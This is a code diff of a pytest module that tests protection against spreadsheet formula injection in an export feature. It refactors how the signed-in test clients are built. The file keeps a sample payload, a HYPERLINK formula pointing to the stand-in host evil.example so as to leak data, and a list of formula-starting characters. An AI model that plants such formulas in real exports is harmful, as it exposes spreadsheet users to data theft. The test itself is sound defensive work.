@@ -12,9 +12,8 @@ from datetime import UTC, date, datetime
 
 import pytest
 
-from tests.conftest import ORIGIN, login
+from tests.conftest import ORIGIN, login, signed_in_clients
 
-PASSWORD = "correct horse battery staple"
 LEAK = '=HYPERLINK("http://evil.example/?leak","click me")'
 STARTS = ["=1+1", "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]  # the six leading characters
 HARMLESS = ["1+1", "ก=1", " =1", "", "'=1", "–5"]  # en dash, not a minus
@@ -67,19 +66,10 @@ def site(built_warehouse, tmp_path_factory):
     mp.setenv("SANYAN_WAREHOUSE", str(built_warehouse))
     mp.setenv("SANYAN_OPS_URL", f"sqlite:///{home / 'ops.sqlite'}")
     mp.setenv("SANYAN_SECRET_KEY", "excel-tests-" + "k" * 30)
-    import app
-    import auth
     from etl import ops
 
     eng = ops.engine()
-    for r in ("admin", "viewer"):
-        auth.add_user(eng, f"xl_{r}", PASSWORD, r)
-
-    def make(role: str):
-        c = app.server.test_client()
-        assert login(c, f"xl_{role}", PASSWORD).status_code == 302
-        return c
-
+    make = signed_in_clients(eng, "xl", ("admin", "viewer"))
     yield make, eng
     mp.undo()
 
